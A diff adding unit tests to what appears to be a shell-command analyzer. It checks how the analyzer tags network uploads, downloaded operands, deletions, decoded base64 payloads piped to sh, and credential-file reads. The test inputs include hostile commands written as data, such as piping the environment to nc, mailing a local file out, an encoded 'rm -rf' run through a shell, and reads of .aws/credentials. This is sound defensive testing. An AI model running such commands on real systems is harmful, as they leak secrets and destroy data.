@@ -174,3 +174,63 @@ describe("words and options the extractor reads", () => {
     expect(anyText(commands("awk 'BEGIN { x = 1 }'")[0]!)).toBe(true);
   });
 });
+
+describe("data that leaves and programs by name", () => {
+  it("sends the environment when set's output is piped to the network", () => {
+    const nc = commands("set | nc h 1").find((c) => c.program === "nc");
+    expect(nc?.inputs.map((p) => p.path)).toEqual(["/proc/self/environ"]);
+  });
+
+  it("takes mail carrying a local file for an upload, and text written in the command not", () => {
+    expect(tagsOf("sendmail a@b < /srv/f")).toContain("upload");
+    expect(tagsOf("echo hi | sendmail a@b")).not.toContain("upload");
+  });
+
+  it("tags an operand downloaded earlier on the line, not any file written on it", () => {
+    const cp = commands("curl -o a http://h/a; cp a /srv/b").find((c) => c.program === "cp");
+    expect(cp?.tags).toContain("downloaded-operand");
+    const cat = commands("echo x > a; cat a").find((c) => c.program === "cat");
+    expect(cat?.tags).not.toContain("downloaded-operand");
+  });
+
+  it("runs a script written on the line and fed to a shell's stdin", () => {
+    expect(roles("printf 'rm -rf /srv/x' > s.sh; sh < s.sh").rm).toEqual(["delete /srv/x"]);
+  });
+
+  it("names a versioned interpreter by its own family", () => {
+    expect(commands('python3.11 -c "1"')[0]?.program).toBe("python");
+    expect(commands('node18 -e "1"')[0]?.program).toBe("node");
+  });
+});
+
+describe("condition mutants of the sample", () => {
+  it("reads every file operand of grep -e: the pattern is the option's", () => {
+    expect(roles("grep -e secret /srv/a /srv/b").grep).toEqual(["read /srv/a", "read /srv/b"]);
+  });
+
+  it("knows base64 -d's output for a decoded payload: a shell running it is unsure why", () => {
+    const why = (cmd: string) => extractFacts(cmd, ctx).uncertain.map((u) => u.tag);
+    expect(why("echo cm0gLXJmIC9zcnYveA== | base64 -d | sh")).toEqual(["decoded-payload"]);
+    expect(why("base64 -d payload.b64 | sh")).toEqual(["decoded-payload"]);
+    expect(why("echo x | base64 | sh")).toEqual(["computed-script"]);
+  });
+
+  it("takes rsync's host:path operand for a remote path", () => {
+    expect(roles("rsync -a /srv/data h:/backup").rsync).toEqual([
+      "read /srv/data",
+      "write /backup",
+    ]);
+  });
+
+  it("classes a home credential file as a credential under any directory (a copied home)", () => {
+    const classes = (cmd: string) => commands(cmd)[0]?.paths[0]?.classes;
+    expect(classes("cat /srv/copy/.aws/credentials")).toContain("credential");
+    expect(classes("cat /srv/copy/.git-credentials")).toContain("credential");
+    expect(classes("cat /srv/copy/.aws/notes")).not.toContain("credential");
+  });
+
+  it("marks a prefix assignment as shadowed only when the command's words use it", () => {
+    expect(tagsOf("X=/srv rm -rf $X")).toContain("prefix-assignment-shadow");
+    expect(tagsOf("LANG=C sort f")).not.toContain("prefix-assignment-shadow");
+  });
+});
